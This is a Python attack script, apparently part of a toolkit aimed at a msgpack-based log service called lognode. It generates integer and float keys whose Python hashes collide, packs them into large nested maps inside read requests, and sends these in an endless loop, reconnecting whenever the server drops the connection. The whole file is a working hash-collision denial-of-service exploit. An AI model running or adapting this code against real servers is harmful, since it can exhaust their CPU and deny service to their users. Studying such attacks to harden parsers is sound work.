"""Send maps whose keys have equal hashes in Python: each key is compared with all before it.

Python's hash of a number is its remainder by 2^61 - 1, so that such keys can be computed. Maps of
more than 256 such keys end the connection; many smaller ones, in one request, are refused later.
"""

import argparse
import itertools
import struct

from attack import Line, arguments, main
from payloads import framed

from lognode.client.protocol.reads import LATEST

_MODULUS = (1 << 61) - 1
_SMALL, _LARGE = 250, 50_000
_MAPS = 400


def _key(value: float) -> bytes:
    """A number as msgpack has it."""
    if isinstance(value, int):
        return b"\xcf" + struct.pack(">Q", value)
    return b"\xcb" + struct.pack(">d", value)


def equal(count: int) -> list[bytes]:
    """So many keys; of the numbers with one hash there are some forty."""
    found: list[bytes] = []
    for first in itertools.count(1):
        found += map(_key, range(first, 1 << 64, _MODULUS))
        found += (_key(float(first) * 2.0 ** (61 * each)) for each in range(-16, 16) if each)
        if len(found) >= count:
            return found[:count]
    raise AssertionError


def nested(keys: list[bytes]) -> bytes:
    """A map with these keys."""
    return b"\xdf" + struct.pack(">I", len(keys)) + b"\x00".join(keys) + b"\x00"


def message(field: bytes) -> bytes:
    """A request with the field in place of the key."""
    # [1, LATEST, {"range": 1, "key": field}]
    head = b"\x93\x01\xcd" + struct.pack(">H", LATEST.number)
    payload = head + b"\x82\xa5range\x01\xa3key" + field
    return framed(payload)


async def attack(line: Line, options: argparse.Namespace) -> None:
    """One connection after another, until the program ends."""
    small = nested(equal(_SMALL))
    both = [
        message(b"\xdc" + struct.pack(">H", _MAPS) + small * _MAPS),
        message(nested(equal(_LARGE))),
    ]
    for data in itertools.cycle(both):
        try:
            await line.write(data)
            await line.read()
        except ConnectionError:
            await line.renew(Line.open)


if __name__ == "__main__":
    main(attack, arguments())
